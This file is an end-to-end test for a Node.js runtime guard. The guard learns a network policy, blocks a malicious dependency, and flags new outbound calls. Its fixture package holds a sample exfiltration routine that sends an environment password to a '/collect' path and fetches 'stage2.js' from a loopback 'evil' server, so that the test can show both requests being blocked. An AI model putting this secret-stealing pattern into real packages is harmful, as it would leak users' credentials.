/**
 * learn → block → drift, end to end, with real processes and a real loopback server:
 *  1. a function and its dependency (`weather-kit`) run under `{ "mode": "alert" }` with the guard preloaded;
 *  2. `perimeter learn --events … --write` writes the policy; the test switches it to block;
 *  3. the same legitimate run passes with no violation, while the attack run (the dependency posting a secret
 *     to another path, and calling a second server) is blocked and the servers see nothing of it;
 *  4. the dependency gains a new outbound call; a new alert-mode run is learned into a new file, and
 *     `perimeter policy diff old new` exits 1 naming the new call.
 * Learning happens on a clean run, as in real life (tests, staging): a learning run that contains the attack
 * would learn it.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';

const HERE = dirname(fileURLToPath(import.meta.url));
const REPO = resolve(HERE, '../../../..');
const BIN = join(REPO, 'packages/cli/dist/bin.js');
const REGISTER = join(REPO, 'packages/perimeter/dist/register.js');
const NODE = process.env.PERIMETER_TEST_NODE ?? process.execPath;

const DEPENDENCY_V1 = `'use strict';
const http = require('node:http');
function request(method, url, body) {
  return new Promise((resolve) => {
    const req = http.request(url, { method }, (res) => { res.resume(); res.on('end', () => resolve(res.statusCode)); });
    req.on('error', (error) => resolve(error.code));
    req.end(body);
  });
}
exports.forecast = (base, id) => request('GET', base + '/v1/forecast/' + id + '?units=metric&key=' + process.env.WEATHER_API_KEY);
exports.subscribe = (base) => request('POST', base + '/v1/subscriptions', '{}');
exports.exfiltrate = (base, other) => Promise.all([
  request('POST', base + '/collect?d=' + encodeURIComponent(String(process.env.DATABASE_PASSWORD)), ''),
  request('GET', other + '/stage2.js'),
]);
`;
const DEPENDENCY_V2 = DEPENDENCY_V1.replace(
  "exports.subscribe = (base) => request('POST', base + '/v1/subscriptions', '{}');",
  "exports.subscribe = (base) => request('POST', base + '/v1/subscriptions', '{}').then((s) => request('PUT', base + '/v2/telemetry/' + Date.now(), '{}').then(() => s));",
);

const HANDLER = `import { forecast, subscribe, exfiltrate } from 'weather-kit';
import http from 'node:http';
const [base, other, mode] = process.argv.slice(2);
const results = {};
for (const id of [101, 202, 303, 404]) results['forecast-' + id] = await forecast(base, id);
results.subscribe = await subscribe(base);
results.health = await new Promise((ok) => http.get(base + '/health', (res) => { res.resume(); ok(res.statusCode); }).on('error', (e) => ok(e.code)));
if (mode === 'attack') {
  const [collect, stage2] = await exfiltrate(base, other);
  results.collect = collect;
  results.stage2 = stage2;
}
process.stdout.write(JSON.stringify(results));
`;

let legit: Server;
let evil: Server;
const seen: { legit: string[]; evil: string[] } = { legit: [], evil: [] };
let base = '';
let other = '';

async function listen(server: Server): Promise<string> {
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

before(async () => {
  legit = createServer((req, res) => {
    seen.legit.push(`${req.method} ${req.url}`);
    req.resume();
    res.end('{}');
  });
  evil = createServer((req, res) => {
    seen.evil.push(`${req.method} ${req.url}`);
    res.end('');
  });
  base = await listen(legit);
  other = await listen(evil);
});

after(() => {
  legit.close();
  evil.close();
});

function setupFunction(): string {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'perimeter-learn-e2e-')));
  mkdirSync(join(dir, 'node_modules/weather-kit'), { recursive: true });
  writeFileSync(
    join(dir, 'node_modules/weather-kit/package.json'),
    '{"name":"weather-kit","version":"1.0.0","main":"index.js"}',
  );
  writeFileSync(join(dir, 'node_modules/weather-kit/index.js'), DEPENDENCY_V1);
  writeFileSync(join(dir, 'handler.mjs'), HANDLER);
  return dir;
}

/** Async on purpose: the loopback servers live in this process, so a spawnSync would deadlock them. */
async function runFunction(dir: string, policy: string, eventsFile: string, mode: 'clean' | 'attack' = 'clean') {
  const result = await spawnAsync(NODE, ['--import', REGISTER, join(dir, 'handler.mjs'), base, other, mode], {
    cwd: dir,
    env: {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      PERIMETER_POLICY: join(dir, policy),
      PERIMETER_EVENTS_FILE: join(dir, eventsFile),
      PERIMETER_FUNCTION: 'weather',
      WEATHER_API_KEY: 'wk_live_0123456789abcdef',
      DATABASE_PASSWORD: 'hunter2-very-secret',
    },
  });
  assert.equal(result.status, 0, `function failed:\n${result.stderr}`);
  const events = existsSync(join(dir, eventsFile))
    ? readFileSync(join(dir, eventsFile), 'utf8')
        .split('\n')
        .filter(Boolean)
        .map((line) => JSON.parse(line))
    : [];
  return { results: JSON.parse(result.stdout) as Record<string, unknown>, events, stderr: result.stderr };
}

function spawnAsync(
  command: string,
  args: string[],
  options: { cwd: string; env: Record<string, string> },
): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, { ...options, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk) => (stderr += chunk));
    const timer = setTimeout(() => child.kill('SIGKILL'), 30_000);
    child.on('error', reject);
    child.on('close', (status) => {
      clearTimeout(timer);
      resolve({ status, stdout, stderr });
    });
  });
}

function perimeter(dir: string, args: string[]) {
  return spawnSync(process.execPath, [BIN, ...args], { cwd: dir, encoding: 'utf8', timeout: 30_000 });
}

test('learn from an alert-mode run, block the attack, and catch drift with policy diff', async () => {
  const dir = setupFunction();
  writeFileSync(join(dir, 'perimeter.json'), '{ "mode": "alert" }\n');

  // 1. Learning run: everything goes through, every new behaviour is an alerted violation.
  const learning = await runFunction(dir, 'perimeter.json', 'learn.jsonl');
  assert.deepEqual(learning.results, {
    'forecast-101': 200,
    'forecast-202': 200,
    'forecast-303': 200,
    'forecast-404': 200,
    subscribe: 200,
    health: 200,
  });
  assert.ok(learning.events.some((event) => event.action === 'alerted' && event.capability === 'network'));

  // 2. Learn and write.
  const learned = perimeter(dir, ['learn', '--events', 'learn.jsonl', '--policy', 'perimeter.json', '--write']);
  assert.equal(learned.status, 0, learned.stderr);
  const policy = JSON.parse(readFileSync(join(dir, 'perimeter.json'), 'utf8'));
  const port = new URL(base).port;
  assert.deepEqual(policy.network.allow, [
    `GET http://127.0.0.1:${port}/health`,
    `GET http://127.0.0.1:${port}/v1/forecast/*`,
    `POST http://127.0.0.1:${port}/v1/subscriptions`,
  ]);
  assert.deepEqual(policy.packages['weather-kit'].network.allow, [
    `GET http://127.0.0.1:${port}/v1/forecast/*`,
    `POST http://127.0.0.1:${port}/v1/subscriptions`,
  ]);
  assert.deepEqual(policy.env.allow, ['WEATHER_API_KEY']);
  const sidecar = readFileSync(join(dir, 'perimeter.learn.json'), 'utf8');
  const explained = JSON.parse(sidecar).rules['network.allow'][`GET http://127.0.0.1:${port}/v1/forecast/*`];
  assert.equal(explained.count, 4);
  assert.deepEqual(explained.packages, ['weather-kit']);
  assert.ok(!sidecar.includes('wk_live_0123456789abcdef'), 'the sidecar never holds a secret value');

  // 3. Block mode: the legitimate run passes untouched; the attack is stopped before it leaves the process.
  policy.mode = 'block';
  writeFileSync(join(dir, 'perimeter.json'), `${JSON.stringify(policy, null, 2)}\n`);
  const clean = await runFunction(dir, 'perimeter.json', 'block-clean.jsonl');
  assert.deepEqual(clean.results, learning.results);
  assert.deepEqual(
    clean.events.filter((event) => event.type === 'violation'),
    [],
  );

  seen.legit.length = 0;
  seen.evil.length = 0;
  const attack = await runFunction(dir, 'perimeter.json', 'block-attack.jsonl', 'attack');
  assert.equal(attack.results.collect, 'ERR_PERIMETER_BLOCKED');
  assert.equal(attack.results.stage2, 'ERR_PERIMETER_BLOCKED');
  assert.equal(attack.results.subscribe, 200);
  assert.deepEqual(seen.evil, [], 'the second server saw nothing');
  assert.ok(!seen.legit.some((line) => line.includes('/collect')), 'the exfiltration request never reached the server');
  assert.ok(!attack.stderr.includes('hunter2-very-secret'));

  // 4. Drift: the dependency adds an outbound call. Re-learn (alert mode) into a new file; the diff names it.
  writeFileSync(join(dir, 'node_modules/weather-kit/index.js'), DEPENDENCY_V2);
  writeFileSync(join(dir, 'perimeter.alert.json'), JSON.stringify({ ...policy, mode: 'alert' }));
  const drifted = await runFunction(dir, 'perimeter.alert.json', 'drift.jsonl');
  assert.equal(drifted.results.subscribe, 200);
  const drift = drifted.events.filter((event) => event.type === 'violation');
  assert.ok(drift.some((event) => event.target.startsWith(`PUT http://127.0.0.1:${port}/v2/telemetry/`)));
  const relearned = perimeter(dir, [
    'learn',
    '--events',
    'drift.jsonl',
    '--policy',
    'perimeter.json',
    '--out',
    'perimeter.next.json',
    '--write',
  ]);
  assert.equal(relearned.status, 0, relearned.stderr);
  const diff = perimeter(dir, ['policy', 'diff', 'perimeter.json', 'perimeter.next.json']);
  assert.equal(diff.status, 1, diff.stdout + diff.stderr);
  assert.match(diff.stdout, new RegExp(`PUT http://127\\.0\\.0\\.1:${port}/v2/telemetry/\\*`));
  assert.match(diff.stdout, /packages\.weather-kit/);
  // The other direction narrows: exit 0.
  assert.equal(perimeter(dir, ['policy', 'diff', 'perimeter.next.json', 'perimeter.json']).status, 0);
});
